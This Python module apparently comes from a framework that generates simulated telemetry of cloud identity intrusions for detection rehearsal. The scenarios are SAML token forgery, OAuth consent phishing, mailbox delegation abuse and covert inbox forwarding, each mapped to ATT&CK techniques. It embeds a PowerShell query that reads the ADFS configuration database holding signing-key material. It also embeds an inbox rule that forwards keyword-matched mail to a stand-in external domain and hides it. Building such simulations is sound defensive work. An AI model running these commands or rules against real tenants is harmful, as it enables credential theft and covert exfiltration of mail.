"""Credentials of an administrator in, the house's accounts in the cloud out: tokens, applications, delegates, rules.

Facts it follows: ATT&CK T1606.002 (SAML tokens), T1528 with T1550.001 (an application is let in, and reads), T1098.002
(delegates), T1114.003 with T1564.008 (rules that send on and hide), T1078.004 (the cloud's own accounts).
"""

from __future__ import annotations

from dataclasses import replace
from typing import Final

from tocsin.rehearse.acts import cloud, federation, mail
from tocsin.rehearse.benign.identity import by_app, lets_in, listed
from tocsin.rehearse.dice import Dice
from tocsin.rehearse.scene import Scene
from tocsin.rehearse.sensors import cloud as records
from tocsin.rehearse.sensors.cloud import SignIn
from tocsin.rehearse.stories.hold import MINUTE, Hold
from tocsin.rehearse.stories.means import AGENT
from tocsin.rehearse.stories.story import Story
from tocsin.rehearse.world import Person

_APP: Final = "Committee Papers Viewer"
_SCOPES: Final = "User.Read Mail.Read Contacts.Read offline_access"
# In the words of the program's own settings: no tool of anybody's is copied here.
_READS: Final = (
    "$c = New-Object Data.SqlClient.SqlConnection 'Data Source=np:\\\\.\\pipe\\microsoft##wid\\tsql\\query'; "
    "$c.Open(); "
    "$q = $c.CreateCommand(); $q.CommandText = 'SELECT ServiceSettingsData FROM IdentityServerPolicy.ServiceSettings'; "
    "$q.ExecuteReader() | Out-Null"
)
_ABROAD: Final = (("Hong Kong", "HK"), ("Los Angeles", "US"), ("Frankfurt", "DE"))


def _does(story: Story, techniques: str) -> bool:
    return bool(story.profile and story.profile.does(techniques))


def _someone(story: Story, dice: Dice, *, federated: bool | None = None) -> Person:
    """A member whom they have not read yet."""
    known = story.people.get("data_left", set())
    members = [one for one in story.body.staff("member") if one.id not in known]
    return dice.one([one for one in members if federated is None or federation.federated(one) == federated])


def _read(story: Story, person: Person) -> None:
    for how in ("targeted", "reached", "data_left"):
        story.concerns(how, person.id)
    story.accounts.add(person.account)


def steals_key(scene: Scene, story: Story, hold: Hold, ts_us: int) -> None:
    """The federation server's settings and the key to its certificate: whoever has both can vouch for anybody."""
    if not _does(story, "T1552.004 T1606.002"):
        return
    body = story.body
    account, server = hold.account, body.one("adfs")
    what = "The key that signs tokens is read from the federation server and the directory"
    with story.step(scene, ts_us, "T1552.004", what, host=server, account=account):
        federation.administers(scene, body, ts_us, account, body.one("jump"), _READS, lasts_s=70)
    story.hosts.update(host.fqdn for host in body.with_role("dc"))


def forges(scene: Scene, story: Story, hold: Hold, ts_us: int) -> None:
    """Tokens of their own making: the cloud believes them, and the house's server never gave them."""
    if not _does(story, "T1552.004 T1606.002"):
        return
    dice, body = story.dice, story.body
    person = _someone(story, dice, federated=True)
    what = f"A forged token lets them in as {person.account}, which the federation server never vouched for"
    with story.step(scene, ts_us, "T1606.002 T1550.001", what, account=person.upn):
        how = SignIn(client=dice.one(hold.means.relays), used="Browser", agent=AGENT, compliant=False)
        for number, app in enumerate(("OfficeHome", "Office 365 Exchange Online", "Office 365 Exchange Online")):
            at = ts_us + number * MINUTE // 3
            cloud.signs_in(scene, body, at, person, replace(how, app=app), forged=True)
    _takes_mail(scene, story, hold, ts_us + 3 * MINUTE, person, with_="browser")


def _takes_mail(
    scene: Scene, story: Story, hold: Hold, ts_us: int, person: Person, *, with_: str, by: str = ""
) -> None:
    dice = story.dice
    with story.step(scene, ts_us, "T1114.002", f"The mailbox of {person.mailbox} is read", account=by or person.upn):
        for part in range(4):
            cloud.reads(
                scene,
                story.body,
                ts_us + part * MINUTE,
                person,
                listed(scene, 2 + dice.below(8)),
                client=dice.one(hold.means.relays),
                with_=with_,
                by=by,
            )
    _read(story, person)


def lures(scene: Scene, story: Story, hold: Hold, ts_us: int) -> None:
    """A mail asks a member to open papers in an application; letting it in is letting them in."""
    if not _does(story, "T1528"):
        return
    dice, body = story.dice, story.body
    person = _someone(story, dice, federated=False)
    domain = hold.means.home[0].name
    if _does(story, "T1566.002"):
        what = f"A mail asks {person.mailbox} to open papers in an application"
        with story.step(scene, ts_us, "T1566.002", what):
            message = mail.message(scene, f"papers@{domain}", person.mailbox, "Papers for your committee", 31_000)
            mail.arrives(scene, body, ts_us, message, mail.server_of(domain))
        story.domains.add(domain)
    at = ts_us + 25 * MINUTE + dice.below(20 * MINUTE)
    what = f"{person.mailbox} lets the application {_APP} read mail"
    with story.step(scene, at, "T1528", what, account=person.upn):
        client = f"{body.outside}.1"
        how = SignIn(client=client, app=_APP, used="Browser", agent=AGENT)
        cloud.signs_in(scene, body, at - 20_000_000, person, how)
        lets_in(scene, body, at, person.upn, _APP, _SCOPES, client=client)
    hold.lent = person
    _read(story, person)


def reads_by_app(scene: Scene, story: Story, hold: Hold, ts_us: int) -> None:
    """The application reads, from a rented server, whatever password its victim has by now."""
    person = hold.lent
    if person is None:
        return
    what = f"The application reads the mailbox of {person.mailbox}"
    with story.step(scene, ts_us, "T1114.002 T1550.001", what, account=person.upn, again="application"):
        for part in range(3):
            at = ts_us + part * 4 * MINUTE
            by_app(scene, story.body, at, person, _APP, hold.means.home[0].address, 2 + story.dice.below(9))
    story.addresses.add(hold.means.home[0].address)


def delegates(scene: Scene, story: Story, hold: Hold, ts_us: int) -> None:
    """As an administrator they give a clerk's account, which they hold, a member's mailbox."""
    if not _does(story, "T1098.002"):
        return
    dice, body = story.dice, story.body
    member, clerk = _someone(story, dice), dice.one(body.staff("clerk"))
    owner = body.staff("admin")[0]
    admin, client = f"adm-{owner.user}@{body.mail}", dice.one(hold.means.relays)
    what = f"As {admin} they make {clerk.mailbox} a delegate of {member.mailbox}"
    with story.step(scene, ts_us, "T1098.002 T1078.004", what, account=admin):
        how = SignIn(client=client, app="Microsoft Exchange Online Remote PowerShell", used="Browser", agent=AGENT)
        records.sign_in(scene, body, ts_us, admin, owner.name, replace(how, compliant=False))
        rights = {"Identity": member.upn, "User": clerk.upn, "AccessRights": "FullAccess", "InheritanceType": "All"}
        where = f"{client}:{49_152 + dice.below(16_000)}"
        cloud.administers(
            scene, body, ts_us + 2 * MINUTE, admin, "Add-MailboxPermission", member.upn, rights, client=where
        )
    at = ts_us + 9 * MINUTE
    with story.step(scene, at, "T1078.004", f"They sign in as {clerk.account}", account=clerk.upn):
        how = SignIn(client=client, used="Browser", agent=AGENT, compliant=False)
        cloud.signs_in(scene, body, at, clerk, how, forged=_does(story, "T1606.002"))
    story.concerns("targeted", clerk.id)
    story.concerns("reached", clerk.id)
    story.accounts.add(clerk.account)
    _takes_mail(scene, story, hold, at + 2 * MINUTE, member, with_="browser", by=clerk.upn)


def diverts(scene: Scene, story: Story, hold: Hold, ts_us: int) -> None:
    """A rule sends on what a member gets about one matter, and puts it where nobody looks."""
    if not _does(story, "T1114.003 T1078.004"):
        return
    dice, body = story.dice, story.body
    person, client = _someone(story, dice), dice.one(hold.means.relays)
    place = dice.one(_ABROAD)
    # Half an hour before, its owner signs in at the desk: ordinary life, and what makes the other one impossible.
    with scene.marked(None, dice):
        cloud.signs_in(scene, body, ts_us - 30 * MINUTE, person, SignIn(client=f"{body.outside}.1"))
    what = f"{person.account} signs in from {place[0]}, half an hour after the desk at home"
    with story.step(scene, ts_us, "T1078.004", what, account=person.upn):
        how = SignIn(client=client, place=place, used="Browser", agent=AGENT, system="MacOs", compliant=False)
        cloud.signs_in(scene, body, ts_us, person, how)
    at = ts_us + 4 * MINUTE
    what = f"A rule in the mailbox of {person.mailbox} sends mail on and hides it"
    with story.step(scene, at, "T1114.003 T1564.008", what, account=person.upn):
        rule = {
            "Name": dice.one((".", "Archive", "rss")),
            "ForwardTo": f"smtp:{person.user}@{dice.one(('harbourmail', 'tidemail'))}.example",
            "SubjectOrBodyContainsWords": "strait;defence;sanctions",
            "MoveToFolder": "RSS Feeds",
            "MarkAsRead": "True",
            "StopProcessingRules": "True",
        }
        where = f"{client}:{49_152 + dice.below(16_000)}"
        about = f"{person.upn}\\{rule['Name']}"
        cloud.administers(scene, body, at, person.upn, "New-InboxRule", about, rule, client=where)
    _read(story, person)
